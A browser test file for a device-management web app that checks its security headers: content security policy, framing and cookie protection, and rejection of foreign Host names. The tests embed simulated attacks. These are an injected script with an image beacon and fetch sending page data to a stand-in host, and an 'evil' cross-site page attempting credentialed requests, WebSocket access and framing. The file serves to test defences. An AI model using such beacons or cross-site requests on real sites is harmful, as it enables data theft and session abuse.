/**
 * What a real browser makes of our headers: the content security policy lets the map and a terminal work and stops holes, and
 * pages of other sites can neither frame ours, nor use the cookie, nor come in by another name.
 */
import { afterAll, beforeAll, expect } from 'bun:test';
import { connect } from 'node:net';
import { getDevice, updateDevice } from '@lovely/api';
import { openBrowser, type TestBrowser } from './harness/browser.ts';
import { TestGateway } from './harness/gateway.ts';
import { listenForViolations, violations } from './harness/policy.ts';
import { ADMIN, TestServer } from './harness/server.ts';
import { until } from './harness/wait.ts';
import { testWith } from './tools.ts';

let server: TestServer;
beforeAll(async () => {
  server = await TestServer.start();
}, 120_000);
afterAll(() => server[Symbol.asyncDispose]());

async function signIn({ page }: TestBrowser, origin: string): Promise<void> {
  await page.goto(`${origin}/sign-in`);
  await page.getByLabel('E-mail').fill(ADMIN.email);
  await page.getByLabel('Password', { exact: true }).fill(ADMIN.password);
  await page.keyboard.press('Enter');
  await page.waitForURL((url) => url.pathname === '/');
}

/** The status of a request with this Host, written by hand because fetch takes its own. */
function statusWithHost(origin: string, path: string, host: string): Promise<number> {
  const { hostname, port } = new URL(origin);
  return new Promise((resolve, reject) => {
    let answer = '';
    const socket = connect(Number(port), hostname, () =>
      socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`),
    );
    socket.on('data', (chunk) => (answer += chunk.toString()));
    socket.on('error', reject);
    socket.on('close', () => resolve(Number(/^HTTP\/1\.1 (\d+)/.exec(answer)?.[1])));
  });
}

testWith('chromium')(
  'neither the map nor a terminal breaks the policy that it is sent with, and a page that tries is stopped',
  async () => {
    await using gateway = await TestGateway.join(server);
    const { id } = gateway;
    await until('it is connected', async () => (await server.call(getDevice, { params: { id } })).connected);
    await server.call(updateDevice, { params: { id }, body: { location: { latitude: 38.7, longitude: -9.1 } } });
    for (const origin of [server.localUrl, server.url]) {
      await using browser = await openBrowser(origin);
      const { page } = browser;
      await listenForViolations(browser);
      await signIn(browser, origin);
      // Over TLS the WebSockets are others; accessibility.test.ts looks at the violations of all other pages.
      for (const path of ['/', `/devices/${id}/terminal`]) {
        await page.goto(origin + path);
        await page.getByRole('heading', { level: 1 }).first().waitFor();
        await page.waitForLoadState('networkidle');
      }
      expect(await violations(browser)).toBe('');
      expect(browser.complaints).toEqual([]);

      // The listener hears, and the policy stops what a hole elsewhere would bring in.
      const ran = await page.evaluate(`(async () => {
        const script = document.createElement('script');
        script.textContent = 'globalThis.injected = true';
        document.body.append(script);
        const image = new Image();
        const failed = new Promise((resolve) => { image.onerror = () => resolve('stopped'); image.onload = () => resolve('loaded'); });
        image.src = 'https://192.0.2.1/steal?' + encodeURIComponent(document.title);
        return [globalThis.injected ?? false, await failed, await fetch('https://192.0.2.1/').then(() => 'sent', () => 'stopped')];
      })()`);
      expect(ran).toEqual([false, 'stopped', 'stopped']);
      const told = await violations(browser);
      for (const directive of ['script-src-elem inline', 'img-src https://192.0.2.1', 'connect-src https://192.0.2.1'])
        expect(told).toContain(directive);
    }
  },
  300_000,
);

testWith('chromium')(
  'a page of another site can not frame ours, use the cookie, or open our sockets',
  async () => {
    const origin = server.localUrl;
    using evil = Bun.serve({
      hostname: '127.0.0.1',
      port: 0,
      fetch: () => new Response('<!doctype html><title>evil</title>', { headers: { 'content-type': 'text/html' } }),
    });
    await using browser = await openBrowser(origin);
    const { page } = browser;
    await signIn(browser, origin);
    // The same host name, so that even the cookie's SameSite counts it as the same site.
    await page.goto(`http://localhost:${evil.port}/`);
    const tried = (await page.evaluate(`(async () => {
      const ours = ${JSON.stringify(origin)};
      const post = await fetch(ours + '/api/v1/groups', {
        method: 'POST', credentials: 'include', mode: 'no-cors', body: '{"name":"evil","filter":null}',
      }).then((answer) => answer.type, () => 'stopped');
      const read = await fetch(ours + '/api/v1/devices', { credentials: 'include' }).then(() => 'read', () => 'stopped');
      const socket = await new Promise((resolve) => {
        const socket = new WebSocket(ours.replace('http', 'ws') + '/api/v1/live');
        socket.onopen = () => resolve('open');
        socket.onerror = () => resolve('stopped');
      });
      const frame = document.createElement('iframe');
      const framed = new Promise((resolve) => { frame.onload = resolve; });
      frame.src = ours + '/devices';
      document.body.append(frame);
      await framed;
      let inside = 'hidden';
      try { inside = frame.contentDocument ? 'readable' : 'hidden'; } catch { inside = 'hidden'; }
      return { post, read, socket, inside };
    })()`)) as Record<string, string>;
    expect(tried).toMatchObject({ read: 'stopped', socket: 'stopped', inside: 'hidden' });
    const groups = (await (
      await server.fetch('/api/v1/groups', { headers: { authorization: `Bearer ${await server.token()}` } })
    ).json()) as { items: unknown[] };
    expect(groups.items).toEqual([]);
    for (const frame of page.frames().slice(1)) expect(await frame.title().catch(() => '')).not.toContain('Lovely');
  },
  120_000,
);

testWith('chromium')(
  'another name that leads to this machine leads to nothing',
  async () => {
    for (const path of ['/', '/api/v1/setup', '/metrics', '/livez'])
      expect([path, await statusWithHost(server.localUrl, path, 'rebound.example.net')]).toEqual([path, 421]);
    for (const host of ['localhost', '127.0.0.1', `localhost:${new URL(server.localUrl).port}`])
      expect(await statusWithHost(server.localUrl, '/livez', host)).toBe(200);
    expect((await server.fetch('/metrics', { headers: { host: 'rebound.example.net' } })).status).toBe(403);
    expect((await server.fetch('/metrics', { headers: { 'x-forwarded-for': '203.0.113.1' } })).status).toBe(403);
    expect((await server.fetch('/metrics')).status).toBe(200);
  },
  60_000,
);
